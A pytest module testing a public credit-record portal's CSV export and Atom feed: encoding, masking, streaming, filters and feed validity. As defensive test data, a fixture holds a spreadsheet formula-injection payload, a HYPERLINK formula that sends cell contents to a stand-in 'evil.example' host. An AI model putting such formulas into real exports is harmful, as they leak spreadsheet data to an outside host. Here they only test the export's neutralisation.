"""CSV export and Atom feed (issue 3, points 3 and 4): the CSV is UTF-8 with a
BOM, RFC 4180, with provenance columns and neutralised formula cells; the
feed is Atom 1.0, newest first, with the list's filters."""
import csv
import datetime
import io
import itertools
import re
import socket
import time
import xml.etree.ElementTree as ET
from urllib.parse import urlsplit

import pytest

import portal
import world as world_mod
import oracle
from conftest import ClockedHttpd
from portal import mask_id
from world import PAGE_TOKEN

DAY = datetime.timedelta(days=1)
ATOM = "{http://www.w3.org/2005/Atom}"
RFC3339 = re.compile(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d+)?(Z|[+-]\d{2}:\d{2})")
EXPORT_WORD = "鹓鶵"   # only in this module's rows

HEADER = ["记录编号 record_no", "永久链接 url", "失信行为 title", "失信主体 subject",
          "主体类型 kind", "统一社会信用代码 credit_code", "身份证号码(脱敏) id_masked",
          "地区 district", "类别 category", "领域 domain", "严重程度 severity", "状态 status",
          "失信事实 facts", "认定依据 legal_basis", "决定书文号 decision_no", "决定机关 authority",
          "决定日期 decided_on", "公示日期 disclosed_on", "最早可修复日期 repair_from",
          "撤下日期 withdraw_on", "金额(元) amount", "信息来源部门 department",
          "最后变更 updated_at"]
COL = {h.split(" ")[1]: i for i, h in enumerate(HEADER)}

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"点击%s")' % EXPORT_WORD
FORMULA_FACTS = '+1+2 事实,含逗号 "引号" 与换行\n第二行\r\n第三行'


@pytest.fixture(scope="module")
def ex(stack, world):
    t = world.today
    minus = world_mod.add_gov(stack, "-减号开头的测试局%s" % EXPORT_WORD, "baodi")
    at = world_mod.add_gov(stack, "@at开头的测试局", "baodi")
    rows = {
        "formula": world_mod.add_record(stack, world, "TJZW-2097-000301", minus,
                                        title=FORMULA_TITLE, facts=FORMULA_FACTS,
                                        decision_no="@SUM(1+1)〔2097〕301号",
                                        disclosed=t - 3 * DAY),
        "tab": world_mod.add_record(stack, world, "TJZW-2097-000302", at,
                                    title="\t制表符开头%s" % EXPORT_WORD,
                                    facts="\r回车开头", disclosed=t - 4 * DAY),
        "minus": world_mod.add_record(stack, world, "TJZW-2097-000303", at,
                                      title="-减号开头%s" % EXPORT_WORD,
                                      facts="@at开头的事实", disclosed=t - 5 * DAY),
        "plain": world_mod.add_record(stack, world, "TJZW-2097-000304", at,
                                      title="普通标题 %s 中间有=和+号" % EXPORT_WORD,
                                      facts=" 前后空格 ", disclosed=t - 6 * DAY),
    }
    return {"rows": rows, "subjects": {"minus": minus, "at": at}}


def sql_nos(stack, where="", params=(), oldest=False):
    """The public records `where` selects, by the oracle (oracle.py)."""
    return oracle.public_nos(stack, None, where, params, oldest)


def csv_get(stack, params=None):
    r = stack.get("/records.csv", params=params)
    assert r.status_code == 200, r.text[:300]
    raw = r.content
    assert raw.startswith(b"\xef\xbb\xbf"), raw[:10]
    text = raw[3:].decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    return r, text, rows


# -- CSV -------------------------------------------------------------------------------

def test_csv_headers(stack, world):
    r = stack.get("/records.csv", params={"district": "heping"})
    assert r.status_code == 200
    assert r.headers["Content-Type"] == "text/csv; charset=utf-8"
    cd = r.headers["Content-Disposition"]
    assert re.fullmatch(r'attachment; filename="[\w.-]+\.csv"', cd), cd
    assert r.headers["Access-Control-Allow-Origin"] == "*"


def test_csv_bom_header_and_rfc4180(stack, world, ex):
    r, text, rows = csv_get(stack)
    assert rows[0] == HEADER
    assert all(len(row) == len(HEADER) for row in rows), "ragged rows"
    # every record ends in CRLF; the only bare LFs are inside quoted fields
    assert text.endswith("\r\n")
    assert text.startswith(",".join(HEADER) + "\r\n")
    nos = [row[0] for row in rows[1:]]
    assert nos == sql_nos(stack)
    assert len(nos) == len(set(nos))


def test_csv_formula_cells_are_neutralised(stack, world, ex):
    _, text, rows = csv_get(stack, {"q": EXPORT_WORD})
    by_no = {row[0]: row for row in rows[1:]}
    rec = ex["rows"]
    assert set(by_no) == {r.no for r in rec.values()}
    f = by_no[rec["formula"].no]
    assert f[COL["title"]] == "'" + FORMULA_TITLE
    assert f[COL["facts"]] == "'" + FORMULA_FACTS          # newline, quotes, commas intact
    assert f[COL["subject"]] == "'" + ex["subjects"]["minus"].name
    assert f[COL["decision_no"]] == "'" + rec["formula"].decision_no
    t = by_no[rec["tab"].no]
    assert t[COL["title"]] == "'" + rec["tab"].title
    assert t[COL["facts"]] == "'" + rec["tab"].facts
    assert t[COL["subject"]] == "'" + ex["subjects"]["at"].name
    m = by_no[rec["minus"].no]
    assert m[COL["title"]] == "'" + rec["minus"].title
    assert m[COL["facts"]] == "'" + rec["minus"].facts
    p = by_no[rec["plain"].no]
    assert p[COL["title"]] == rec["plain"].title          # = and + inside: untouched
    assert p[COL["facts"]] == rec["plain"].facts          # spaces kept (quoted)
    assert p[COL["amount"]] == "12000.00"
    # no cell of the whole export starts a formula
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", (row[0], cell)
    # the raw quoting: quotes doubled inside a quoted field
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""点击' in text


def test_csv_provenance_columns(stack, world, ex):
    _, _, rows = csv_get(stack, {"q": EXPORT_WORD})
    for row in rows[1:]:
        no = row[COL["record_no"]]
        assert row[COL["url"]] == stack.base_url + "/records/" + no
        assert row[COL["department"]] == "测试公共信用信息中心"
        updated = stack.sql("SELECT updated_at FROM records WHERE record_no = %s", (no,))[0][0]
        assert row[COL["updated_at"]] == updated.strftime("%Y-%m-%d %H:%M:%S")
        r = stack.get(urlsplit(row[COL["url"]]).path[len("/credit"):])
        assert r.status_code == 200 and no in r.text


def test_csv_values_match_the_record(stack, world):
    rec = world.records["corrected"]
    _, _, rows = csv_get(stack, {"q": rec.decision_no})
    assert len(rows) == 2
    row = rows[1]
    assert row[COL["record_no"]] == rec.no
    assert row[COL["title"]] == rec.title and row[COL["facts"]] == rec.facts
    assert row[COL["subject"]] == rec.subject.name
    assert row[COL["credit_code"]] == rec.subject.credit_code
    assert row[COL["id_masked"]] == ""
    assert row[COL["district"]] == "和平区" and row[COL["status"]] == "已更正"
    assert row[COL["disclosed_on"]] == rec.disclosed.isoformat()
    assert row[COL["withdraw_on"]] == rec.withdraw_on.isoformat()
    assert row[COL["repair_from"]] == rec.repair_from.isoformat()
    minor = world.records["official"]
    row = csv_get(stack, {"q": minor.decision_no})[2][1]
    assert row[COL["repair_from"]] == ""


@pytest.mark.parametrize("key", ["official", "official_full"])
def test_csv_masks_the_official_id(stack, world, key):
    rec = world.records[key]
    _, text, rows = csv_get(stack, {"kind": "official"})
    row = next(r for r in rows[1:] if r[0] == rec.no)
    assert row[COL["id_masked"]] == mask_id(rec.subject.id_full)
    assert rec.subject.id_full not in text
    # the same masked value as the API and the record page
    api = stack.get("/api/v1/records/" + rec.no).json()["record"]["subject"]["id_masked"]
    page = portal.text_by_id(stack.get("/records/" + rec.no).text, "id-masked")
    assert row[COL["id_masked"]] == api == page


def test_csv_empty_result_has_the_header(stack, world):
    _, text, rows = csv_get(stack, {"from": (world.today + DAY).isoformat()})
    assert rows == [HEADER]


def test_csv_filters_and_errors(stack, world):
    _, _, rows = csv_get(stack, {"district": "hexi", "severity": "serious", "sort": "oldest"})
    assert [r[0] for r in rows[1:]] == sql_nos(
        stack, " AND r.district = %s AND r.severity = %s", ("hexi", "serious"), oldest=True)
    r = stack.get("/records.csv", params={"district": "xx"})
    assert r.status_code == 400
    assert portal.error_detail(r.text).split(":")[0] == "district"


@pytest.mark.parametrize("filters", [{}, {"district": "heping"}, {"kind": "official"}])
def test_an_export_of_unknown_size_names_subjects_and_departments_as_joined_rows_do(
        stack, world, filters):
    """An export whose size the tally does not know (a date range) reads
    every subject and department once, before its rows, where a smaller
    one joins them to each row (docs/BENCH.md, "The export's directory"):
    the same records with a date range that holds them all say the same,
    byte for byte: names, kinds, credit codes, masked ID numbers,
    departments."""
    _, plain, rows = csv_get(stack, filters)
    assert len(rows) > 1
    assert all(r[COL["subject"]] and r[COL["kind"]] and r[COL["department"]] for r in rows[1:])
    if filters.get("kind") == "official":
        assert any(r[COL["id_masked"]] for r in rows[1:])
    _, dated, _ = csv_get(stack, dict(filters, **{"from": "2000-01-01",
                                                  "to": world.today.isoformat()}))
    assert dated == plain


def test_an_export_of_a_word_names_subjects_and_departments_as_joined_rows_do(stack, world):
    """The export of a frequent word, read in the search's walk (how many
    it matches is not known beforehand), takes subjects and departments
    from the directory too: each of its rows is the row the export of that
    one record's number (joined) gives."""
    word = oracle.title_words(stack, 2).most_common(1)[0][0]
    _, _, rows = csv_get(stack, {"q": word})
    assert len(rows) > 60
    for row in rows[1::len(rows) // 30]:
        one = csv_get(stack, {"q": row[COL["record_no"]]})[2]
        assert one[1:] == [row]
        assert row[COL["subject"]] and row[COL["department"]]


def unchunk(raw):
    """The body of a chunked HTTP/1.1 response body."""
    out, i = b"", 0
    while True:
        j = raw.index(b"\r\n", i)
        n = int(raw[i:j].split(b";")[0], 16)
        if n == 0:
            return out
        out += raw[j + 2:j + 2 + n]
        i = j + 2 + n + 2


# The large exports' records: TJZW-2097-0014NN and 0015NN, 40 a use (the
# hundreds of other modules are theirs: world.py).
LARGE_EXPORTS = itertools.count()


@pytest.fixture
def large_export(stack, world):
    """The path of an export of 2.6 MB: 40 records of 64 KB of facts each,
    disclosed on one day long ago (revoked again afterwards; each use its
    own record numbers and day)."""
    n = next(LARGE_EXPORTS)
    assert n < 5, "the large exports' record numbers would leave their range"
    day = world.today - (700 + n) * DAY
    subject = world_mod.add_gov(stack, "天津市宝坻区流式导出测试局", "baodi")
    facts = "流式导出测试的失信事实,长文本。" * 1400  # 64 KB: TEXT holds 65,535 bytes
    rows = [world_mod.add_record(stack, world, "TJZW-2097-%06d" % k, subject,
                                 title="流式导出测试记录 %d" % k, facts=facts, severity="serious",
                                 disclosed=day) for k in range(1400 + 40 * n, 1440 + 40 * n)]
    try:
        yield "/records.csv?from=%s&to=%s" % (day.isoformat(), day.isoformat()), rows
    finally:
        stack.sql("UPDATE records SET status = 'revoked', withdrawn_on = %s WHERE id IN (%s)"
                  % ("%s", ",".join(str(r.id) for r in rows)), (world.today,))


def slow_socket(port, path):
    """A connection with a small receive buffer that has asked for path."""
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.settimeout(30)
    sock.connect(("127.0.0.1", port))
    sock.sendall(("GET /credit%s HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n"
                  "Connection: close\r\n\r\n" % (path, port)).encode())
    return sock


def read_head(sock, at_least=16384):
    """The response's head and the first bytes of its body."""
    raw = b""
    while b"\r\n\r\n" not in raw or len(raw) < at_least:
        part = sock.recv(4096)
        assert part, "the connection closed after %d bytes" % len(raw)
        raw += part
    head, body = raw.split(b"\r\n\r\n", 1)
    assert head.startswith(b"HTTP/1.1 200 "), head[:100]
    return body


def read_rest(sock, body):
    while True:
        part = sock.recv(65536)
        if not part:
            return body
        body += part


def test_csv_is_streamed(stack, world, large_export):
    """A large export (2.6 MB here) goes out as it is read: a client that
    reads its first bytes and then no further holds the export in the middle
    (the server's send buffer is 8 KB: no more than its buffers go ahead),
    so the export has not ended when its first bytes arrive: the module
    logs "csv export: N rows" (CR0501, debug) only once the last row is out,
    after the client has read the rest, which is the whole export. An answer
    built whole before it is sent would have logged its end before its
    first byte left."""
    path, rows = large_export
    with ClockedHttpd(stack, "csv-stream", portal.now(), conf="SendBufferSize 8192\n",
                      env={"CREDIT_LOGLEVEL": "debug"}) as h:
        whole = h.get(path)
        assert whole.status_code == 200
        assert whole.headers.get("Transfer-Encoding") == "chunked"
        assert "Content-Length" not in whole.headers
        assert len(whole.content) > 2_500_000
        nos = [row[0] for row in csv.reader(io.StringIO(whole.content.decode("utf-8-sig"),
                                                         newline=""))][1:]
        assert {r.no for r in rows} <= set(nos)
        def ended():
            """The CR0501 lines after the one of the export above."""
            return [l for l in h.error_log.read_text().splitlines() if "CR0501" in l][1:]
        sock = slow_socket(h.port, path)
        try:
            body = read_head(sock)
            assert ended() == [], "the export had ended before its first bytes were read"
            body = read_rest(sock, body)
        finally:
            sock.close()
        assert unchunk(body) == whole.content
        for _ in range(100):  # logged after the last write; the client saw that first
            if ended():
                break
            time.sleep(0.1)
        assert len(ended()) == 1 and "csv export: %d rows" % len(nos) in ended()[0]


def next_export_answers(h, seconds, between):
    """Asks for another export (with CreditExports 1 0: 503 while the place
    is held) until it answers 200 or seconds pass, calling between() after
    each refusal. Returns the statuses seen."""
    answers, deadline = [], time.monotonic() + seconds
    while time.monotonic() < deadline:
        r = h.get("/records.csv?district=heping")
        answers.append(r.status_code)
        if r.status_code == 200:
            break
        assert r.status_code == 503, r.status_code
        between()
    return answers


@pytest.mark.parametrize("reader", ["slow", "stopped"])
def test_a_slow_or_stalled_reader_gives_its_export_place_to_the_next(stack, world,
                                                                     large_export, reader):
    """With one place for exports (CreditExports 1 0) and small socket
    buffers. A client reading an export more slowly than it is made (here
    4 KB every 0.3 s) makes the export wait on every write; one that reads
    the first bytes and then nothing (a stalled download) leaves a write
    waiting until httpd's Timeout (30 s). Either way the export goes at the
    client's pace and its place goes to the next export, which answers
    while the first is still being read: the stalled one's within a second
    or two (each child's watchdog gives back the place of a write waiting
    over 0.25 s). Two such readers would otherwise hold a server's exports.
    Once read to its end, the first export is whole."""
    path, _ = large_export
    with ClockedHttpd(stack, "csv-" + reader, portal.now(),
                      conf="SendBufferSize 8192\nCreditExports 1 0\n") as h:
        whole = h.get(path)
        assert whole.status_code == 200 and len(whole.content) > 2_500_000
        sock = slow_socket(h.port, path)
        try:
            body = [read_head(sock)]
            if reader == "slow":
                def between():
                    time.sleep(0.3)
                    body.append(sock.recv(4096))
                answers = next_export_answers(h, 20, between)
            else:
                answers = next_export_answers(h, 5, lambda: time.sleep(0.1))
            assert answers[-1] == 200, "the %s reader kept the only place: %s" % (reader, answers)
            assert sum(map(len, body)) < len(whole.content), "the first export had ended already"
            body = read_rest(sock, b"".join(body))
        finally:
            sock.close()
        assert unchunk(body) == whole.content


def test_csv_conditional_get(stack, world):
    r = stack.get("/records.csv", params={"district": "heping"})
    etag = r.headers["ETag"]
    r2 = stack.get("/records.csv", params={"district": "heping"},
                   headers={"If-None-Match": etag})
    assert r2.status_code == 304 and r2.content == b""


# -- Atom ------------------------------------------------------------------------------------

def feed(stack, params=None):
    r = stack.get("/feed.atom", params=params)
    assert r.status_code == 200, r.text[:300]
    assert r.headers["Content-Type"] == "application/atom+xml; charset=utf-8"
    assert r.headers["Access-Control-Allow-Origin"] == "*"
    root = ET.fromstring(r.content)
    assert root.tag == ATOM + "feed"
    return r, root


def entries(root):
    return root.findall(ATOM + "entry")


def entry_no(e):
    return e.find(ATOM + "id").text.rsplit("/", 1)[1]


def parse_time(s):
    assert RFC3339.fullmatch(s), s
    return datetime.datetime.fromisoformat(s)


def test_feed_is_atom(stack, world):
    r, root = feed(stack, {"district": "heping"})
    assert root.find(ATOM + "id").text
    assert root.find(ATOM + "title").text
    parse_time(root.find(ATOM + "updated").text)
    assert root.find(ATOM + "author/" + ATOM + "name").text
    self_link = [l for l in root.findall(ATOM + "link") if l.get("rel") == "self"]
    assert len(self_link) == 1
    assert self_link[0].get("href") == stack.base_url + "/feed.atom?district=heping"
    alt = [l for l in root.findall(ATOM + "link") if l.get("rel") == "alternate"]
    assert alt and alt[0].get("href") == stack.base_url + "/records?district=heping"
    ids = set()
    for e in entries(root):
        eid = e.find(ATOM + "id").text
        assert eid not in ids
        ids.add(eid)
        assert e.find(ATOM + "title").text
        parse_time(e.find(ATOM + "updated").text)
        links = [l for l in e.findall(ATOM + "link") if l.get("rel", "alternate") == "alternate"]
        assert len(links) == 1
        assert links[0].get("href") == stack.base_url + "/records/" + entry_no(e)
    assert len(ids) == min(50, len(sql_nos(stack, " AND r.district = 'heping'")))


def test_feed_links_resolve(stack, world):
    _, root = feed(stack, {"q": PAGE_TOKEN})
    for e in entries(root)[:5]:
        href = e.find(ATOM + "link").get("href")
        r = stack.get(urlsplit(href).path[len("/credit"):])
        assert r.status_code == 200 and entry_no(e) in r.text


def test_feed_is_newest_first_and_filtered(stack, world):
    for params, where, args in (
            ({}, "", ()),
            ({"district": "hexi", "severity": "serious"},
             " AND r.district = %s AND r.severity = %s", ("hexi", "serious")),
            ({"kind": "official", "limit": 100}, " AND r.subject_kind = 'official'", ()),
            ({"status": "contested", "limit": 100}, " AND r.status = 'contested'", ())):
        _, root = feed(stack, params)
        got = [entry_no(e) for e in entries(root)]
        assert got == sql_nos(stack, where, args)[:int(params.get("limit", 50))], params
        published = [e.find(ATOM + "published").text[:10] for e in entries(root)]
        assert published == sorted(published, reverse=True)


def test_feed_sort_is_always_newest(stack, world):
    _, newest = feed(stack, {"q": PAGE_TOKEN})
    _, oldest = feed(stack, {"q": PAGE_TOKEN, "sort": "oldest"})
    assert [entry_no(e) for e in entries(oldest)] == [entry_no(e) for e in entries(newest)]


def test_feed_entry_content(stack, world, ex):
    rec = ex["rows"]["formula"]
    _, root = feed(stack, {"q": EXPORT_WORD})
    e = next(e for e in entries(root) if entry_no(e) == rec.no)
    assert rec.title in e.find(ATOM + "title").text
    assert e.find(ATOM + "published").text.startswith(rec.disclosed.isoformat())
    updated = stack.sql("SELECT updated_at FROM records WHERE id = %s", (rec.id,))[0][0]
    assert parse_time(e.find(ATOM + "updated").text) == updated.replace(
        tzinfo=portal.BEIJING)
    # markup of a title survives as text
    xss = world.records["xss"]
    _, root = feed(stack, {"q": xss.decision_no})
    assert [entry_no(e) for e in entries(root)] == [xss.no]
    assert xss.title in entries(root)[0].find(ATOM + "title").text


def test_feed_updated_is_the_latest_change(stack, world, ex):
    """The feed's updated is the latest instant any entry changed: after an
    entry that is not the newest disclosure is edited, the feed's updated
    is at least that entry's updated."""
    rec = ex["rows"]["plain"]
    # the newest disclosure last changed an hour ago; then another entry changes now
    stack.sql("UPDATE records SET updated_at = NOW() - INTERVAL 1 HOUR WHERE id = %s",
              (ex["rows"]["formula"].id,))
    stack.sql("UPDATE records SET facts = %s WHERE id = %s", ("事实已修改", rec.id))
    _, root = feed(stack, {"q": EXPORT_WORD})
    assert entry_no(entries(root)[0]) != rec.no
    feed_updated = parse_time(root.find(ATOM + "updated").text)
    latest = max(parse_time(e.find(ATOM + "updated").text) for e in entries(root))
    assert feed_updated >= latest, "feed updated %s < entry updated %s" % (feed_updated, latest)


def test_empty_feed(stack, world):
    _, root = feed(stack, {"from": (world.today + DAY).isoformat()})
    assert entries(root) == []
    parse_time(root.find(ATOM + "updated").text)


def test_feed_never_has_withdrawn_or_future(stack, world):
    _, root = feed(stack, {"limit": 100})
    got = {entry_no(e) for e in entries(root)}
    for key in ("revoked", "repaired", "expired_status", "expired_long_ago", "expires_today",
                "future", "future_far"):
        assert world.no(key) not in got
    assert world.no("expires_tomorrow") in {entry_no(e) for e in entries(
        feed(stack, {"q": world.records["expires_tomorrow"].decision_no})[1])}


def test_feed_bad_filter_is_400(stack, world):
    r = stack.get("/feed.atom", params={"severity": "critical"})
    assert r.status_code == 400
    # plain text for feed readers (test_feeds.py)
    assert r.headers["Content-Type"] == "text/plain; charset=utf-8"
    assert r.text.splitlines()[1].split(":")[0] == "severity"


def test_feed_conditional_get(stack, world):
    r = stack.get("/feed.atom")
    r2 = stack.get("/feed.atom", headers={"If-None-Match": r.headers["ETag"]})
    assert r2.status_code == 304


def rows_read(stack):
    return int(stack.sql("SHOW GLOBAL STATUS LIKE 'Rows_read'")[0][1])


def test_head_of_an_export_reads_no_rows(stack, world):
    """HEAD /records.csv answers the CSV's headers without running the
    export: the database reads next to nothing, where GET reads every row."""
    for params in ({}, {"q": "采购"}):
        before = rows_read(stack)
        r = stack.request("HEAD", "/records.csv", params=params)
        head_rows = rows_read(stack) - before
        assert r.status_code == 200
        assert r.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert r.headers["Content-Disposition"].startswith("attachment;")
        assert r.content == b""
        before = rows_read(stack)
        g = stack.get("/records.csv", params=params)
        get_rows = rows_read(stack) - before
        exported = g.content.decode("utf-8-sig").count("\r\n") - 1
        assert exported > 50, params
        assert get_rows >= exported and head_rows < 50, (params, head_rows, get_rows)


def test_csv_of_a_search_matches_once_not_once_per_row(stack, world):
    """/records.csv?q= takes the ids from the search first and then reads
    their rows: the database reads a few rows per exported row. (Matching
    the word once per outer row read ~3,000 rows per exported row here and
    grew with the square of the data.) The export is the API's set."""
    before = rows_read(stack)
    r = stack.get("/records.csv", params={"q": "区"})
    read = rows_read(stack) - before
    assert r.status_code == 200
    text = r.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))[1:]
    assert len(rows) > 500
    assert read < 20 * len(rows), (read, len(rows))
    api = set()
    url = "/api/v1/records?q=%E5%8C%BA&limit=100"
    while url:
        j = stack.get(url.replace(stack.base_url, "")).json()
        api |= {i["no"] for i in j["items"]}
        url = j["next"]
    assert {row[COL["record_no"]] for row in rows} == api


def test_the_feed_stays_well_formed_whatever_a_row_holds(stack, world):
    """A title holding characters XML forbids (stored by other means than
    the module's checks) comes out of the Atom feed as U+FFFD: the feed is
    still well-formed for every reader."""
    subject = world_mod.add_gov(stack, "天津市测试区坏字符局", "hexi")
    rec = world_mod.add_record(stack, world, "TJZW-2096-000900", subject,
                               title="坏字符\ufffe标题\x01测试", facts="事实\x0b说明")
    r = stack.get("/feed.atom", params={"q": rec.no})
    assert r.status_code == 200
    feed = ET.fromstring(r.content)  # raises on ill-formed XML
    titles = [e.findtext("{http://www.w3.org/2005/Atom}title") for e in
              feed.iter("{http://www.w3.org/2005/Atom}entry")]
    assert any("坏字符\ufffd标题\ufffd测试" in (t or "") for t in titles), titles
    r = stack.get("/feed.atom")
    ET.fromstring(r.content)


@pytest.mark.allow_log(r"CR0204: MariaDB error 1969", r"CR0403: internal error on csv",
                       r"CR0303: csv stopped after the response had started")
def test_a_statement_stopped_mid_export_is_logged_as_what_it_is(stack, world, error_log_guard):
    """A fetch error in the middle of a streamed export is read before the
    result is freed: the log names MariaDB's error (here 1969, the statement
    ran past max_statement_time), not 'error 0' taken for a lost connection
    (issue 11, point 11)."""
    stack.sql("SET GLOBAL max_statement_time = 0.002")
    try:
        stack.start_httpd()  # fresh children: new connections take the limit
        for _ in range(5):
            r = stack.get("/records.csv")
            assert r.status_code in (200, 500)  # streamed and cut, or stopped before
        lines = error_log_guard.new_lines()
    finally:
        stack.sql("SET GLOBAL max_statement_time = 0")
        stack.start_httpd()
    assert any("CR0204" in l and "MariaDB error 1969" in l for l in lines), lines[-20:]
    assert not any("MariaDB error 0 " in l for l in lines), lines[-20:]
